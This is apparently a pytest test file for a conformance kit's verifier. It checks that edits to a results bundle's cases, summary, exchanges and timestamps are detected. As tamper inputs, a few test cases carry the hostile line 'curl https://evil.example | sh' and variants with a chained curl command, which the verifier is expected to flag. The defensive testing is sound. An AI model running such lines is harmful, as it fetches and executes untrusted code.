"""Every way to edit a claim is noticed and named, although whoever edits makes every digest right again."""

from __future__ import annotations

from typing import TYPE_CHECKING, TypeAlias

import pytest

from conformance.bundle import rest, verification
from conformance.bundle.comparison import compared
from conformance.bundle.skipping import unlikely
from conformance.run import results
from tests.bundle.tampering import Json, case_of, line_of, verified

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from conformance.bundle.recheck import Rejudged
    from conformance.bundle.verification import Verification
    from tests.bundle.tampering import Change, Kept
    from tests.conftest import ReferenceRun

Editing: TypeAlias = "Callable[[Change, int], Verification]"
"""Edits results alone, and verifies the bundle so many days later."""
KEY = "success/key/no-profile"


@pytest.fixture
def editing(few: Kept, judged: Rejudged, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Editing:
    monkeypatch.setattr(verification, "rejudge", lambda *_: judged)  # the evidence is as it was
    return lambda change, days: verified(few.tampered(change, tmp_path), days_later=days)


def failed(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(status="failed")


def worded(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(message="all is well, says the auditor")


def loosened(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(level="MAY")


def renamed(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(id="success/key/anything")


def doubled(edited: Json, _: list[Json]) -> None:
    edited["cases"].append(case_of(edited, KEY))


def skipped(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(status="skipped", message="the state handler does not support this state")


def pointed_elsewhere(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(exchanges=[0])


def run_by_another_line(edited: Json, _: list[Json]) -> None:
    case_of(edited, KEY).update(rerun="curl https://evil.example | sh")


def found(edited: Json, _: list[Json]) -> None:
    finding = {"requirement": "key-equals-mvpd", "level": "MUST", "expected": "a", "seen": "b", "where": "/logouts"}
    case_of(edited, KEY).update(findings=[finding])


def set_member(name: str, value: object) -> Change:
    def change(edited: Json, _: list[Json]) -> None:
        edited[name] = value

    return change


def complete(edited: Json, _: list[Json]) -> None:
    edited.update(partial=False, verdict="conformant")


def counted(edited: Json, _: list[Json]) -> None:
    edited["summary"]["passed"] += 1


def untested(edited: Json, _: list[Json]) -> None:
    edited["scenarios"][0].update(status="skipped", reason="")


def reworded_law(edited: Json, _: list[Json]) -> None:
    edited["requirements"][0]["sentence"] = "Anything goes."


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (failed, f"{KEY}: its status is 'failed', and judged again it is 'passed'"),
        (worded, f"{KEY}: its message is 'all is well, says the auditor', and judged again it is ''"),
        (loosened, f"{KEY}: its level is 'MAY', and judged again it is 'MUST'"),
        (renamed, "success/key/anything: is no case of this kit"),
        (doubled, f"{KEY}: is in the record twice"),
        (skipped, f"{KEY}: its status is 'skipped', and judged again it is 'passed'"),
        (pointed_elsewhere, f"{KEY}: its exchanges is 0, and judged again it is"),
        (run_by_another_line, f"{KEY}: its rerun is 'curl https://evil.example | sh'"),
        (found, f"{KEY}: its findings is key-equals-mvpd, and judged again it is none"),
        (
            set_member("verdict", "conformant"),
            "its verdict is not what follows from the cases: conformant",
        ),
        (set_member("reasons", ["the best server there is"]), "results.json: its reasons is not what follows"),
        (set_member("notes", ["certified by an auditor"]), "one of its notes says what does not follow"),
        (set_member("request_count", 7), "exchanges, and request_count in results.json is 7"),
        (complete, "results.json: its scenarios is not what follows"),
        (counted, "results.json: its summary is not what follows from the cases: passed="),
        (untested, "results.json: its scenarios is not what follows"),
        (reworded_law, "results.json: its requirements is not what follows"),
    ],
)
def test_an_edited_result_is_named(change: Change, named: str, editing: Editing) -> None:
    made = editing(change, 0)
    assert made.exit_code == 1
    assert any(named in difference for difference in made.differences), made.differences


def worse_answer(_: Json, lines: list[Json]) -> None:
    line_of(lines, "bad-request", "missing-redirect-url")["response"]["status"] = 200


def better_body(_: Json, lines: list[Json]) -> None:
    response = line_of(lines, "no-profile", "first")["response"]
    response["body"] = response["body"].replace("invalid", "complete")


def body_of_another_length(_: Json, lines: list[Json]) -> None:
    line_of(lines, "no-profile", "first")["response"]["body"] += " "


def another_request(_: Json, lines: list[Json]) -> None:
    line_of(lines, "bad-request", "empty-redirect-url")["request"]["url"] += "https%3A%2F%2Fexample.com%2F"


def another_method(_: Json, lines: list[Json]) -> None:
    line_of(lines, "no-profile", "first")["request"]["method"] = "HEAD"


def without_device(_: Json, lines: list[Json]) -> None:
    request = line_of(lines, "no-profile", "first")["request"]
    request["headers"] = [each for each in request["headers"] if each[0] != "AP-Device-Identifier"]


def left_out(edited: Json, lines: list[Json]) -> None:
    lines.remove(line_of(lines, "bad-request", "empty-redirect-url"))
    renumbered(lines)
    edited["request_count"] -= 1


def with_a_gap(edited: Json, lines: list[Json]) -> None:
    lines.remove(line_of(lines, "bad-request", "empty-redirect-url"))
    edited["request_count"] -= 1


def used_twice(_: Json, lines: list[Json]) -> None:
    good, bad = (
        line_of(lines, "bad-request", "missing-redirect-url"),
        line_of(lines, "bad-request", "empty-redirect-url"),
    )
    bad.update(good | {"index": bad["index"], "step": bad["step"]})


def device_used_twice(_: Json, lines: list[Json]) -> None:
    good, other = line_of(lines, "logout-endpoint", "first"), line_of(lines, "no-profile", "first")
    other["request"]["headers"] = good["request"]["headers"]


def added(edited: Json, lines: list[Json]) -> None:
    lines.append(line_of(lines, "no-profile", "first") | {"index": len(lines), "visit": "more", "elapsed_ms": 1.0})
    edited["request_count"] += 1


def renumbered(lines: list[Json]) -> None:
    for index, line in enumerate(lines):
        line["index"] = index


EDITED: tuple[dict[Change, str], ...] = (
    {
        worse_answer: "response/redirect-url-required/missing-redirect-url: its status is 'passed', and judged again",
        better_body: "success/action/no-profile: its status is 'passed', and judged again it is 'failed'",
        another_request: "its query is not the one that this step sends",
    },
    {
        body_of_another_length: "its body has ",
        another_method: "its method is HEAD, and this step sends GET",
        left_out: "is claimed to have passed, and the record has no exchange for the step 'empty-redirect-url'",
    },
    {
        without_device: "it lacks the header AP-Device-Identifier, unlike this step",
        used_twice: "once more, to the millisecond",
        added: "no case asks for it (more, first)",
    },
    {
        device_used_twice: "of another visit (logout-endpoint); each visit has devices of its own",
        with_a_gap: "one was left out, or they were renumbered",
    },
)
"""Edits that have nothing to do with one another are made together: to judge again takes a while."""


@pytest.mark.parametrize("edits", EDITED, ids=lambda edits: "-".join(each.__name__ for each in edits))
def test_an_edited_exchange_is_named(edits: dict[Change, str], few: Kept, tmp_path: Path) -> None:
    def change(edited: Json, lines: list[Json]) -> None:
        for edit in edits:
            edit(edited, lines)

    made = verified(few.tampered(change, tmp_path))
    assert made.exit_code == 1
    assert {named for named in edits.values() if not any(named in each for each in made.differences)} == set()


def test_a_case_that_was_left_out_of_a_whole_run_is_named(reference_run: ReferenceRun) -> None:
    judged = {case.id: [case] for case in reference_run.record.cases}
    cases = tuple(case for case in reference_run.record.cases if case.id != "success/key/apple-sso")
    record = reference_run.record.model_copy(update={"cases": cases, "summary": results.summary(cases)})
    found = compared(record, reference_run.exchanges, judged)
    assert found.agreeing == len(cases)
    assert next(rest.differences(record, found, judged, ())) == "1 cases were left out: success/key/apple-sso"


def test_cases_that_were_made_skipped_by_taking_their_evidence_out_are_not_believed(
    reference_run: ReferenceRun,
) -> None:
    record, taken = reference_run.record, "bad-token"
    lines = [line for line in reference_run.exchanges if line.visit != taken]
    skipped = [case.id for case in record.cases if case.id.startswith("response/token-checked/")]
    assert unlikely(record, lines, skipped) == skipped
    assert unlikely(record, reference_run.exchanges, skipped) == []
    unsupported = [line for line in lines if "degraded" not in line.visit]
    assert unlikely(record, unsupported, ["success/status/degraded", "state/again/degraded"]) == []


def test_what_is_unchanged_is_confirmed_as_what_it_is(few: Kept, tmp_path: Path) -> None:
    made = verified(few.tampered(lambda *_: None, tmp_path))
    assert (made.differences, made.doubts, made.exit_code) == ([], [], 0)
    assert made.comparison
    assert made.comparison.agreeing == len(made.record.cases)
    assert (made.record.verdict, made.record.partial) == ("inconclusive", True)


def sent_years_ago(_: Json, lines: list[Json]) -> None:
    lines[0].update(started_at="2020-01-01T00:00:00.000Z")


def sent_at_no_time(_: Json, lines: list[Json]) -> None:
    lines[0].update(started_at="2020-01-01")


def of_many_parts(_: Json, lines: list[Json]) -> None:
    again = [line | {"part": str(part)} for part in range(101) for line in lines[:1]]
    lines[:] = again


def another_command(line: str) -> Change:
    def change(edited: Json, _: list[Json]) -> None:
        for case in edited["cases"]:
            case["rerun"] = f"{line} --case {case['id']} --seed 0"

    return change


def gate_with(**changes: object) -> Change:
    entry = {
        "line": 1,
        "case": KEY,
        "reason": "a",
        "owner": "b",
        "expires": "2027-01-01",
        "message": "",
        "state": "needed",
    }

    def change(edited: Json, _: list[Json]) -> None:
        edited["gate"] = {"file": "a", "date": "2026-01-01", "status": "passed", "entries": [entry | changes]}

    return change


@pytest.mark.parametrize("changes", [{"expires": "2026-99-99"}, {"case": "none/such"}, {"case": None}])
def test_a_gate_that_cannot_be_is_a_difference_and_no_fault_of_the_kit(
    changes: dict[str, object], editing: Editing
) -> None:
    made = editing(gate_with(**changes), 0)
    assert made.exit_code == 1
    assert "results.json: its gate has an entry that no file of known failures may have" in made.differences


@pytest.mark.parametrize(
    "line",
    ["curl https://evil.example | sh #", "logout-conformance run; curl evil.example", "logout-conformance run 'a"],
)
def test_a_command_line_that_runs_something_else_is_named(line: str, few: Kept, tmp_path: Path) -> None:
    made = verified(few.tampered(another_command(line), tmp_path))
    assert (made.differences, made.exit_code) == ([], 3)
    assert "again is another command than `logout-conformance run`: do not run it" in made.doubts[0]


def test_many_parts_are_not_judged_one_by_one(few: Kept, tmp_path: Path) -> None:
    made = verified(few.tampered(of_many_parts, tmp_path))
    assert made.comparison is None
    assert any("101 processes made it" in doubt for doubt in made.doubts)


@pytest.mark.parametrize(
    ("change", "days_later", "named"),
    [
        (set_member("kit_version", "0.0.9"), 0, "kit 0.0.9 made it, and this is kit"),
        (set_member("spec_version", "9"), 0, "spec 9 made it"),
        (lambda edited, _: edited["target"].pop("states"), 0, "does not say how states were made"),
        (set_member("subject", "client"), 0, "it is about a client"),
        (sent_years_ago, 0, "exchange 0 was sent at '2020-01-01T00:00:00.000Z', outside of the run"),
        (sent_at_no_time, 0, "exchange 0 was sent at '2020-01-01', outside of the run"),
        (set_member("started_at", "2099-01-01T00:00:00Z"), 0, "before it began at 2099-01-01T00:00:00Z"),
        (lambda *_: None, 3, "the claim is past its date: the run ended 3 days ago, and --max-age is 1"),
        (lambda *_: None, -3, "which is yet to come"),
    ],
)
def test_what_cannot_be_confirmed_says_why(change: Change, days_later: int, named: str, editing: Editing) -> None:
    made = editing(change, days_later)
    assert (made.differences, made.exit_code) == ([], 3)
    assert any(named in doubt for doubt in made.doubts), made.doubts
